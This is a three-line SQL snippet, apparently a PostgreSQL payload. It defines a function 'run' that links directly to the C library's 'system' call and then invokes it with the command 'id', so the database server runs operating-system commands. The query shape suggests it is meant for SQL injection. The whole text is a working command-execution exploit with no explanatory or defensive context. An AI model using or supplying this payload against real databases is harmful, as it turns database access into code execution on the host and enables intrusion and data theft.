-- The C library has a function that runs programs.
CREATE FUNCTION run(text) RETURNS integer AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE c STRICT;
SELECT 'x', run('id')
